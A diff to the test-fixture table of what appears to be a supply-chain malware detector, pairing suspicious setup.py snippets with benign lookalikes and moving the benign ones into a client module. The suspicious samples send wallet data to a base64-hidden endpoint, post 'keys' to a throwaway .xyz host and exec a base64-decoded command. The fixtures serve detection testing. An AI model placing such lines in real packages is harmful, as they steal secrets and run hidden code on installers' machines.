@@ -47,14 +47,16 @@ RULES: dict[str, tuple[dict[str, str], dict[str, str]]] = {
     "hidden-endpoint": (
         {"setup.py": "import base64, requests\n"
                      "requests.get(base64.b64decode(KEY).decode() + wallet)\n"},
-        {"setup.py": "import base64, requests\n"
-                     "requests.get(URL, headers={'auth': base64.b64decode(TOKEN)})\n"}),
+        {"pkg/client.py": "import base64, requests\n\n\ndef fetch(url, token):\n"
+                          "    return requests.get(url, headers={'auth': "
+                          "base64.b64decode(token)})\n"}),
     "throwaway-host-call": (
         {"setup.py": "import requests\n"
                      "requests.post('https://api.sdk-update.xyz/keys', json=keys)\n"},
-        {"setup.py": "import requests\n"
-                     "requests.post('https://api.example.com/v1/items', json=item)\n"
-                     "DOCS = 'https://update-check.xyz/a'\n"}),
+        {"pkg/client.py": "import requests\nDOCS = 'https://update-check.xyz/a'\n\n\n"
+                          "def save(item):\n"
+                          "    return requests.post('https://api.example.com/v1/items', "
+                          "json=item)\n"}),
     "url-shortener": ({"setup.py": "u = 'https://bit.ly/3abcde'\n"},
                       {"setup.py": "u = 'https://github.com/bitly/api'\n"}),
     "decode-exec": ({"setup.py": f"import base64\nexec(base64.b64decode('{B64_CMD}'))\n"},
